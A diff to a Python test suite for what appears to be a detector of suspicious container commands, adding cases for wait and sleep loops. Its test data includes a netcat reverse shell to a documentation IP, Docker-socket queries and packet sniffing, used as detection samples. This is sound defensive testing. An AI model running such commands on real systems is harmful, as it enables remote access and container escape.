@@ -197,6 +197,13 @@ SCRIPTS: dict[Deed, list[str]] = {
     Deed.SNIFF_NETWORK: ["tcpdump -i any"],
     Deed.SUDO: ["sudo id", "doas id"],
     Deed.TALK_TO_RUNTIME: ["docker ps", "curl --unix-socket /var/run/docker.sock http://x/info"],
+    Deed.WAIT: [
+        "install-driver; sleep infinity",
+        "python x.py && tail -f /dev/null",
+        "work; while true; do sleep 30; done",
+        "work; for i in a b; do while true; do sleep 60; done; done",
+        "while true; do sleep 60; done; work",
+    ],
 }
 
 
@@ -284,9 +291,13 @@ def test_ordinary_scripts_are_not_suspicious(text: str) -> None:
         (["sleep"], set()),
         (["/bin/sh"], set()),
         (["sh", "-c", "--", "while true; do sleep 5; done;"], {Deed.SHELL, Deed.SLEEP_FOREVER}),
-        (["sh", "-c", "work; sleep infinity"], {Deed.SHELL}),
-        (["sh", "-c", "python x.py; sleep infinity"], {Deed.SHELL}),
-        (["sh", "-c", "sh x.sh; sleep infinity"], {Deed.SHELL}),
+        (["sh", "-c", "work; sleep infinity"], {Deed.SHELL, Deed.WAIT}),
+        (["sh", "-c", "python x.py; sleep infinity"], {Deed.SHELL, Deed.WAIT}),
+        (["sh", "-c", "sh x.sh; sleep infinity"], {Deed.SHELL, Deed.WAIT}),
+        (["sh", "-c", "while true; do work; sleep 30; done"], {Deed.SHELL}),
+        (["sh", "-c", "work; until nc -z db 5432; do sleep 1; done"], {Deed.SHELL}),
+        (["sh", "-c", "while true; do sleep 5; (work); done"], {Deed.SHELL}),
+        (["sh", "-c", "work; sleep 5"], {Deed.SHELL}),
         (["sleep 1d"], {Deed.SLEEP_FOREVER}),
         (['"/bin/sh"', '"-c"', '"sleep infinity"'], {Deed.SHELL}),
         (["nc", "-e", "/bin/sh", "203.0.113.9", "4444"], {Deed.REVERSE_SHELL}),
